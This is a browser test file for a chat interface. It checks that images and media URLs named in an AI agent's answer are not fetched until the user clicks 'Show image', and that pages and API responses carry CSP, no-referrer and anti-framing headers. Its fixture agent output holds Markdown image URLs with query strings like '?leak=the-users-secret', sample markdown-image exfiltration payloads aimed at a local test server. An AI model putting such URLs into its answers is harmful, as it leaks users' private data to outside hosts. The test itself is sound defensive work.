// Issue 9, finding 6: the page must not fetch what the agent names. An agent's answer (a captured-shape
// run replayed by the fixture agent) holds a Markdown image and a `mediaUrl`, both pointing at an HTTP
// server this test runs; the server must hear nothing until the person clicks "Show image", then one
// request per click, with no Referer. The page and the API carry a CSP that forbids framing.
import { mkdtempSync, writeFileSync } from "node:fs";
import { createServer, type IncomingHttpHeaders, type Server } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FIXTURE_AGENT } from "../../support/agent-host-process.ts";
import { agentMessages, sendButton, sendMessage } from "../../support/browser.ts";
import { useBrowserSuite } from "../../support/browser-suite.ts";

const runDir = mkdtempSync(join(tmpdir(), "remote-images-"));
const suite = useBrowserSuite({
  agentCommand: [process.execPath, FIXTURE_AGENT, "--file", "{message}", "--delay", "20"],
  hostArgs: ["--cwd", runDir],
});

// A 1x1 PNG, so a loaded image is a real image.
const PNG = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=", "base64");

type Seen = { path: string; headers: IncomingHttpHeaders };
const imageRequests: Seen[] = [];
let imageServer: Server;
let imageOrigin = "";

beforeAll(async () => {
  imageServer = createServer((request, response) => {
    imageRequests.push({ path: request.url ?? "", headers: request.headers });
    response.writeHead(200, { "content-type": "image/png", "cache-control": "no-store" });
    response.end(PNG);
  });
  await new Promise<void>((resolve) => imageServer.listen(0, "127.0.0.1", resolve));
  imageOrigin = `http://127.0.0.1:${(imageServer.address() as { port: number }).port}`;
});
afterAll(() => new Promise<void>((resolve) => imageServer.close(() => resolve())));

/** The agent's lines: text with a Markdown image and a link, then a media URL, as openclaw writes them. */
function writeRun(name: string): void {
  let seq = 0;
  const line = (stream: string, data: object) => JSON.stringify({ event: "agent", runId: "r", stream, data, seq: ++seq, ts: Date.now() });
  const lines = [
    line("lifecycle", { phase: "start" }),
    line("assistant", { delta: `Here is the chart: ![sales chart](${imageOrigin}/chart.png?leak=the-users-secret) ` }),
    line("assistant", { delta: `and [the source](${imageOrigin}/page), [![badge](${imageOrigin}/badge.png)](${imageOrigin}/linked). ` }),
    line("assistant", { delta: "Done.", mediaUrl: `${imageOrigin}/media.png?leak=more` }),
    line("lifecycle", { phase: "end" }),
  ];
  writeFileSync(join(runDir, name), `${lines.join("\n")}\n`);
}

async function settle(): Promise<void> {
  await new Promise((resolve) => setTimeout(resolve, 700));
}

describe("the chat page and images the agent names", () => {
  it("finding 6: loads no image the agent names until the person clicks Show image, then once, without a Referer", async () => {
    writeRun("images.jsonl");
    const { page } = await suite.newChatPage();
    const cspViolations: string[] = [];
    page.on("console", (message) => {
      if (/Content Security Policy/i.test(message.text())) cspViolations.push(message.text());
    });

    await sendMessage(page, "images.jsonl");
    const answer = agentMessages(page).last();
    await answer.getByText("Done.").waitFor({ timeout: 15_000 });
    await sendButton(page).waitFor();
    await settle();
    expect(imageRequests.map((seen) => seen.path)).toEqual([]); // nothing while streaming
    // In their place, placeholders that say where the images would come from.
    const showButtons = answer.getByRole("button", { name: "Show image" });
    expect(await showButtons.count()).toBe(3);
    expect(await answer.getByText(`from 127.0.0.1:${new URL(imageOrigin).port}`).count()).toBe(3);
    expect(await answer.getByRole("link", { name: "the source" }).getAttribute("rel")).toBe("noopener noreferrer");

    // Nor when the history loads.
    await page.reload();
    await expect.poll(() => showButtons.count(), { timeout: 15_000 }).toBe(3);
    await settle();
    expect(imageRequests.map((seen) => seen.path)).toEqual([]);

    await showButtons.first().click();
    const chart = answer.locator("img").first();
    await expect.poll(() => chart.evaluate((img) => (img as unknown as { naturalWidth: number }).naturalWidth)).toBe(1);
    await settle();
    expect(imageRequests.map((seen) => seen.path)).toEqual(["/chart.png?leak=the-users-secret"]);
    expect(imageRequests[0]!.headers.referer).toBeUndefined();

    // The image inside a link: the click shows it and does not follow the link.
    const pages = page.context().pages().length;
    await answer.getByRole("button", { name: "Show image" }).first().click();
    await expect.poll(() => answer.locator("img").count()).toBe(2);
    await answer.getByRole("button", { name: "Show image" }).click();
    await expect.poll(() => answer.locator("img").count()).toBe(3);
    await settle();
    expect(imageRequests.map((seen) => seen.path)).toEqual(["/chart.png?leak=the-users-secret", "/badge.png", "/media.png?leak=more"]);
    for (const seen of imageRequests) expect(seen.headers.referer).toBeUndefined();
    expect(page.context().pages().length).toBe(pages);
    // The page ran under its CSP without a single refusal (it needs nothing the policy forbids).
    expect(cspViolations).toEqual([]);
    await page.context().close();
  });

  it("finding 6: the page and the API forbid framing and carry a Content-Security-Policy", async () => {
    for (const path of ["/", "/chat/some-session", "/assets/missing.js"]) {
      const response = await fetch(`${suite.relay.url}${path}`);
      await response.arrayBuffer();
      const csp = response.headers.get("content-security-policy") ?? "";
      expect(csp, path).toContain("default-src 'self'");
      expect(csp, path).toContain("script-src 'self'");
      expect(csp, path).toContain("connect-src 'self'");
      expect(csp, path).toContain("frame-ancestors 'none'");
      expect(response.headers.get("x-frame-options"), path).toBe("DENY");
      expect(response.headers.get("referrer-policy"), path).toBe("no-referrer");
      expect(response.headers.get("x-content-type-options"), path).toBe("nosniff");
    }
    // The headers file itself is configuration, not a page asset.
    expect(await (await fetch(`${suite.relay.url}/_headers`)).text()).not.toContain("Content-Security-Policy");

    const auth = { authorization: `Bearer ${suite.relay.relayToken}` };
    const apiResponses = [
      await fetch(`${suite.relay.url}/api/chats`, { headers: auth }),
      await fetch(`${suite.relay.url}/api/chat/no-such-session/messages`, { headers: auth }),
      await fetch(`${suite.relay.url}/api/chat/no-such-session/stream`, { headers: auth }),
      await fetch(`${suite.relay.url}/api/chats`), // 401
      await fetch(`${suite.relay.url}/api/health`),
    ];
    for (const response of apiResponses) {
      await response.arrayBuffer();
      const what = `${response.url} ${response.status}`;
      expect(response.headers.get("content-security-policy"), what).toBe("default-src 'none'; frame-ancestors 'none'");
      expect(response.headers.get("x-frame-options"), what).toBe("DENY");
      expect(response.headers.get("referrer-policy"), what).toBe("no-referrer");
      expect(response.headers.get("x-content-type-options"), what).toBe("nosniff");
    }
  });
});
